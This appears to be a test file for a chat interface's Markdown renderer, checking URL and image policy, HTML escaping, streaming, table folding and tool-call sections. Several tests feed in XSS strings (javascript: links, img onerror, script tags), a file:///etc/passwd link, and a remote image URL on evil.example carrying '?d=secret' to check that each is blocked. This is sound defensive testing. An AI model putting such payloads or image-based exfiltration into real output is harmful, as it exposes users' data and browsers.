import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeAll, expect, test, vi } from "vitest";

import { ChatSession } from "../session/session";
import { SessionContext } from "../views/context";
import { Markdown, RICH_MARKDOWN } from "./Markdown";
import { tokenizeJson } from "./json-tokens";
import { copyTextOf, splitSections } from "./sections";
import { judgeImage, linkTarget } from "./url-policy";

beforeAll(() => RICH_MARKDOWN.load());

function show(text: string, props: { streaming?: boolean; place?: "task" | "card" } = {}): HTMLElement {
  const session = new ChatSession(vi.fn());
  return render(
    <SessionContext value={session}>
      <Markdown text={text} {...props} />
    </SessionContext>,
  ).container;
}

test.each([
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:x",
  "chatkit-link://open",
  "file:///etc/passwd",
  "blob:https://x/1",
])("a link to %s cannot be followed", (url) => {
  expect(linkTarget(url)).toBeNull();
  show(`[press](<${url}>)`);
  expect(screen.queryByRole("link")).not.toBeInTheDocument();
});

test("a link to elsewhere opens apart and tells nothing", () => {
  show("[notes](https://notes.example.org/1)");
  const link = screen.getByRole("link", { name: "notes" });
  expect(link).toHaveAttribute("rel", "noopener noreferrer");
  expect(link).toHaveAttribute("target", "_blank");
});

test("HTML stays text", () => {
  const container = show('<img src=x onerror="alert(1)"> <script>alert(1)</script> <b>bold</b>');
  expect(container.querySelector("img, script, b")).toBeNull();
  expect(container).toHaveTextContent("<b>bold</b>");
});

test("a remote image is not asked for; its place says so", () => {
  const container = show("![the plan](https://evil.example/?d=secret)");
  expect(container.querySelector("img")).toBeNull();
  expect(container).toHaveTextContent("the plan Image from evil.example is not loaded");
});

test("images by reference and of other schemes are judged alike", () => {
  const container = show("![a][x] ![b](//evil.example/b.png)\n\n[x]: https://evil.example/a.png");
  expect(container.querySelector("img")).toBeNull();
});

test("our own images and inline raster images are shown", () => {
  const pixel = "data:image/png;base64,iVBORw0KGgo=";
  show(`![own](/api/attachments/7) ![inline](${pixel})`);
  expect(screen.getByRole("img", { name: "own" })).toHaveAttribute(
    "src",
    `${window.location.origin}/api/attachments/7`,
  );
  expect(screen.getByRole("img", { name: "inline" })).toHaveAttribute("src", pixel);
});

test.each([
  ["data:image/svg+xml;base64,PHN2Zz4=", [], "refused"],
  ["data:text/html;base64,AAAA", [], "refused"],
  ["https://img.example/a.png", ["img.example"], "show"],
  ["https://cdn.img.example/a.png", ["img.example"], "show"],
  ["https://notimg.example/a.png", ["img.example"], "remote"],
  ["https://img.example.evil.test/a.png", ["img.example"], "remote"],
  ["http://img.example/a.png", ["img.example"], "remote"],
  ["javascript:alert(1)", [], "refused"],
])("an image at %s with %j allowed: %s", (url, domains, verdict) => {
  expect(judgeImage(url, domains).kind).toBe(verdict);
});

test("what is half-written while streaming looks closed", () => {
  const container = show("The **north", { streaming: true });
  expect(container.querySelector("strong")).toHaveTextContent("north");
  show("See [the notes](https://exam", { streaming: true });
  expect(screen.queryByRole("link")).not.toBeInTheDocument();
});

test("code can be copied, and is named by its language", () => {
  show("```sql\nselect 1\n```");
  expect(screen.getByText("sql")).toBeInTheDocument();
  expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
});

test("a query on a card is folded and can be copied as it is", async () => {
  const user = userEvent.setup();
  show("```sql\nSELECT 1\nFROM beds\n```", { place: "card" });
  const fold = screen.getByRole("button", { name: "SQL 2 lines" });
  expect(fold).toHaveAttribute("aria-expanded", "false");
  expect(screen.queryByText(/FROM beds/)).not.toBeInTheDocument();
  expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
  await user.click(fold);
  expect(screen.getByText(/FROM beds/)).toBeInTheDocument();
});

test("a long table in a tool result folds after ten rows", () => {
  const rows = Array.from({ length: 12 }, (_, index) => `| row ${index} |`).join("\n");
  show(`| n |\n| --- |\n${rows}`, { place: "task" });
  expect(screen.queryByText("row 11")).not.toBeInTheDocument();
  expect(screen.getByRole("button", { name: "Show all 12 rows" })).toHaveAttribute("aria-expanded", "false");
});

test("a date in a cell stays on one line, alone or among words", () => {
  show("| when | what |\n| --- | --- |\n| 2026-01-08T10:00:00Z | Moved from 2026-01-08 to 2026-02-01 by Ana |");
  expect(screen.getByText("2026-01-08T10:00:00Z")).toHaveAttribute("data-short", "true");
  expect(screen.getByText("2026-01-08")).toHaveClass("whole");
  expect(screen.getByText("2026-02-01")).toHaveClass("whole");
  expect(screen.getByText(/^Moved from/)).toHaveTextContent("Moved from 2026-01-08 to 2026-02-01 by Ana");
});

test("a cell of sentences gets the room to be read", () => {
  const sentences = "Do we need a mobile app, or is the web page good enough on phones? Who could join for design?";
  show(`| id | body |\n| --- | --- |\n| 4 | ${sentences} |`);
  expect(screen.getByText(sentences)).toHaveAttribute("data-long", "true");
  expect(screen.getByText("4")).toHaveAttribute("data-long", "false");
});

test("columns of ids and dates leave their room to the others", () => {
  const widths = (table: string) => [...show(table).querySelectorAll("col")].map((column) => column.className);
  const head = "| id | day | title |\n| --- | --- | --- |";
  expect(widths(`${head}\n| 1 | 2026-01-08 | A roadmap |\n| 22 | 2026-01-09 | \u2013 |`)).toEqual([
    "narrow",
    "narrow",
    "",
  ]);
  expect(widths("| a | b |\n| --- | --- |\n| 1 | 2 |")).toEqual([]);
});

test("a tool call is cut at its headings, never inside code", () => {
  const text = "#### Arguments\n```\n# not a heading\n```\n**Progress:**\n\nhalf\n#### Result · 2 kB\nx";
  expect(splitSections(text)).toEqual([
    { title: "Arguments", detail: null, body: "```\n# not a heading\n```" },
    { title: "Progress", detail: null, body: "half" },
    { title: "Result", detail: "2 kB", body: "x" },
  ]);
  expect(splitSections("just text")).toEqual([{ title: null, detail: null, body: "just text" }]);
});

test("headings in what a tool returned stay content", () => {
  const sections = splitSections("#### Result\n\n#### Arguments\n\nnot the arguments");
  expect(sections).toEqual([{ title: "Result", detail: null, body: "#### Arguments\n\nnot the arguments" }]);
});

test("copying a section that is one block of code copies the code", () => {
  expect(copyTextOf({ title: "Arguments", detail: null, body: '```json\n{ "a": 1 }\n```' })).toBe('{ "a": 1 }');
  expect(copyTextOf({ title: "Result", detail: null, body: "| a |\n| - |" })).toBe("| a |\n| - |");
});

test("colouring JSON changes no character", () => {
  const source = '{ "a\\"b": [1, -2.5e3, true, null], "s": "x: 1" }';
  const tokens = tokenizeJson(source);
  expect(tokens.map(({ text }) => text).join("")).toBe(source);
  expect(tokens.filter(({ kind }) => kind === "key").map(({ text }) => text)).toEqual(['"a\\"b"', '"s"']);
  expect(tokens.filter(({ kind }) => kind === "number").map(({ text }) => text)).toEqual(["1", "-2.5e3"]);
});

test("of a very long text the beginning shows at once, and the rest piece by piece", async () => {
  const user = userEvent.setup();
  const paragraph = `${"Words that go on. ".repeat(50)}\n\n`;
  const shown = show(`First.\n\n${paragraph.repeat(170)}Last.`);
  expect(screen.getByText("First.")).toBeInTheDocument();
  expect(screen.queryByText("Last.")).not.toBeInTheDocument();
  await user.click(screen.getByRole("button", { name: "Show more (parts shown: 1 of 2)" }));
  expect(screen.getByText("Last.")).toBeInTheDocument();
  expect(shown.querySelector(".more")).toBeNull();
});

test("a very long table folds", () => {
  show(`| a |\n| - |\n${"| 1 |\n".repeat(201)}`);
  expect(screen.getByRole("button", { name: "Show all 201 rows" })).toBeInTheDocument();
  expect(screen.getAllByRole("row")).toHaveLength(202);
});

test("a text takes the direction of its own words", () => {
  expect(show("## الخطة").querySelector(".markdown")).toHaveAttribute("dir", "auto");
});
